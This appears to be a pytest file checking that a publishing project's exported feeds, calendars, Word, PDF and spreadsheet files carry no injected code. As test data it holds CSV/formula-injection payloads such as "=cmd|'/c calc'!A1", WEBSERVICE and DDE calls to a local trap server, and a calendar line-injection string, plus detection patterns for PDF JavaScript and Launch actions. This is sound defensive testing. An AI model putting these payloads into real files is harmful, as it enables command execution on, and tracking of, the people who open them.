"""What a source writes into a text stays a text in files that other programs open."""

import io
import re
import shutil
import subprocess
import zipfile
from datetime import UTC, date, datetime
from xml.etree import ElementTree as Xml

import icalendar
import pypdfium2
import pytest

from alerts import calendar, feed, files
from alerts.calendar import Release
from data import settings
from data.gazetteer import area
from data.publication import exports
from data.publication.exports import Provenance
from data.schema.tables import SOURCES
from data.store import FigureFilter
from editions import brief, content, pdf, word
from tests import planted
from tests.servers.publisher import GONE, Publisher
from visuals.language.words import Words

NOW = datetime(2026, 11, 24, 12, tzinfo=UTC)
BROKEN = "x\r\nATTACH:javascript:alert(1)\r\nEND:VEVENT\nURL:javascript:alert(1)\x00\x1b"
"""A text that would end its own line of a calendar."""


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    return planted.store(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def shown(store):
    return content.gather(store.current(), area.load("idlib"))


@pytest.fixture(scope="module")
def briefed(shown):
    return brief.compose(shown, "en")


def test_a_feed_leads_nowhere_but_to_its_own_site(store):
    given = settings.load(store=store.address, address="https://figures.example.org")
    made = files.all_of(given, store, NOW)
    for name, body in made.items():
        if not name.endswith(".atom"):
            continue
        written = Xml.fromstring(body)  # noqa: S314 - our own
        for link in written.iter(f"{{{feed.ATOM}}}link"):
            assert link.get("href", "").startswith("https://figures.example.org"), name
        assert b"<script" not in body


def test_a_text_does_not_end_its_line_of_a_calendar():
    """A program of the reader's would take what follows for an address to open."""
    planned = Release("one@example.org", date(2026, 12, 1), BROKEN, BROKEN, tentative=True)
    body = calendar.ics(Words("en"), [planned], NOW).decode()
    lines = re.sub(r"\r\n[ \t]", "", body).split("\r\n")
    assert not [line for line in lines if re.match(r"ATTACH|URL:javascript", line)]
    (event,) = icalendar.Calendar.from_ical(body).walk("VEVENT")
    assert "ATTACH" not in event


def test_a_word_file_has_no_field_and_no_link_of_a_source(briefed):
    """A field is computed when the file is opened; a link to javascript: is one press away."""
    with zipfile.ZipFile(io.BytesIO(word.render(briefed))) as parts:
        for name in parts.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            body = parts.read(name)
            Xml.fromstring(body)  # noqa: S314 - well-formed, whatever stands in it
            for relation in re.findall(rb"<Relationship [^>]*>", body):
                target = re.search(rb'Target="([^"]*)"', relation)
                assert target is not None
                assert not target[1].lower().startswith((b"javascript", b"file", b"\\\\"))
            assert not re.search(rb"instrText[^>]*>[^<]*(?:DDE|HYPERLINK|INCLUDE)", body)
            assert b"altChunk" not in body


def test_a_pdf_runs_nothing_and_links_to_the_web_alone(briefed):
    body = pdf.render(briefed)
    for name in (b"/JavaScript", b"/JS ", b"/Launch", b"/OpenAction", b"/EmbeddedFile"):
        assert name not in body
    assert all(
        uri.startswith((b"http://", b"https://")) for uri in re.findall(rb"/URI\s*\(([^)]*)", body)
    )
    document = pypdfium2.PdfDocument(body)
    assert len(document) >= 1
    document.close()


def test_a_workbook_computes_nothing_and_links_to_the_web_alone(store):
    rows = store.current().figures(FigureFilter(place=("SY07",))).head(20)
    attacks = ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", '=HYPERLINK("x")', "=cmd|'/c calc'!A1")
    rows = rows.assign(category=[attacks[n % len(attacks)] for n in range(len(rows))])
    provenance = Provenance("x", SOURCES.empty())
    body = exports.as_bytes(rows, "xlsx", provenance=provenance, public=False)
    with zipfile.ZipFile(io.BytesIO(body)) as parts:
        names = parts.namelist()
        assert not [name for name in names if "externalLink" in name or "vba" in name.lower()]
        sheets = [parts.read(name) for name in names if name.startswith("xl/worksheets/sheet")]
        links = [parts.read(name) for name in names if name.endswith(".rels")]
    assert sheets
    assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<f " in sheet]
    for target in re.findall(rb'Target="([^"]*)" TargetMode="External"', b"".join(links)):
        assert target.startswith((b"https://", b"http://"))


@pytest.mark.enable_socket
@pytest.mark.allow_hosts(["127.0.0.1"])
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not on this machine")
def test_files_that_libreoffice_opens_compute_nothing_and_call_nobody(
    store, briefed, tmp_path, monkeypatch
):
    """A formula out of a source's text would tell its author who opened the file, and where."""
    asked: list[str] = []
    with Publisher() as trap:
        monkeypatch.setattr(trap, "reply", lambda path, query: asked.append(path) or GONE)
        attacks = (
            f'=WEBSERVICE("{trap.url}/webservice")',
            f'=DDE("soffice";"{trap.url}/dde";"A1")',
            f'+HYPERLINK("{trap.url}/link")',
            "=6*7001",
            "@6*7001",
        )
        rows = store.current().figures(FigureFilter(place=("SY07",))).head(20)
        rows = rows.assign(category=[attacks[n % len(attacks)] for n in range(len(rows))])
        provenance = Provenance("x", SOURCES.empty())
        for form in ("xlsx", "csv"):
            body = exports.as_bytes(rows, form, provenance=provenance, public=False)
            (tmp_path / f"figures.{form}").write_bytes(body)
        (tmp_path / "brief.docx").write_bytes(word.render(briefed))
        kinds = {"figures.xlsx": "html", "figures.csv": "html", "brief.docx": "txt"}
        for name, kind in kinds.items():
            _open_and_save(tmp_path / name, kind, tmp_path / name.replace(".", "-"))
    assert asked == []
    for name in ("figures-xlsx", "figures-csv"):
        (page,) = (tmp_path / name).glob("*.html")
        text = page.read_text(encoding="utf-8")
        assert "WEBSERVICE(" in text
        assert "42006" not in text
    (told,) = (tmp_path / "brief-docx").glob("*.txt")
    assert "onerror=window.hacked" in told.read_text(encoding="utf-8")


def _open_and_save(path, kind, folder):
    profile = folder.with_name(f"{folder.name}-profile").as_uri()
    words = ["--headless", f"-env:UserInstallation={profile}", "--convert-to", kind]
    subprocess.run(
        ["soffice", *words, "--outdir", str(folder), str(path)],  # noqa: S607
        check=True,
        timeout=120,
        capture_output=True,
    )
